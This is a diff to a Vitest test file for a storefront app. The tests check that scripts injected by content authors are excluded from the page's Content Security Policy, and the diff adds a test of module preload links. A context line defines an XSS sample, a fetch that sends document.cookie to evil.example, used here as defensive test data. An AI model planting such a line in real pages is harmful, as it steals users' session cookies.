@@ -11,6 +11,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 const buildFolder = resolve(import.meta.dirname, '../../../apps/storefront/build');
 
 let running: RunningShop;
+let build: ServerBuild;
 
 const stolen = 'fetch("//evil.example/" + document.cookie)';
 /** Scripts that an author of content must not be able to run, in the three places where a page may have them. */
@@ -32,7 +33,7 @@ function careless(build: ServerBuild): ServerBuild {
 
 beforeAll(async () => {
   await buildStorefront();
-  const build = (await import(join(buildFolder, 'server/index.js'))) as ServerBuild;
+  build = (await import(join(buildFolder, 'server/index.js'))) as ServerBuild;
   running = await startShop({
     mountPages: (app, shop, prepared) =>
       servePages(app, shop, prepared, () => Promise.resolve(createRenderer(careless(build), prepared)), undefined),
@@ -55,4 +56,17 @@ test('a script injected by a text is not in the policy of the page, its own scri
   for (const script of own) expect(policy, script.slice(0, 80)).toContain(hashOf(script));
   // The page does not reveal a nonce.
   expect(html.match(/nonce="[^"]+"/g)).toBeNull();
+});
+
+test('every script that a page imports is preloaded, once and after all else', async () => {
+  const html = await (await fetch(`${running.origin}/en-us/letter-to-customers`)).text();
+  const links = [...html.matchAll(/<link rel="modulepreload"[^>]*>/g)].map(([link]) => link);
+  const { url, entry, routes } = build.assets;
+  const ofRoutes = ['root', 'content/page'].flatMap((id) => [routes[id]?.module, ...(routes[id]?.imports ?? [])]);
+  const files = new Set([url, entry.module, ...entry.imports, ...ofRoutes]);
+  expect(files.size).toBeGreaterThan(5);
+  expect(links).toEqual([...files].map((file) => `<link rel="modulepreload" fetchpriority="low" href="${file}"/>`));
+  // No mark of a part that was to be written in its place.
+  expect(html).toContain('id="shop-menu"');
+  expect(html).not.toMatch(/<!--(?:menu|question)/);
 });
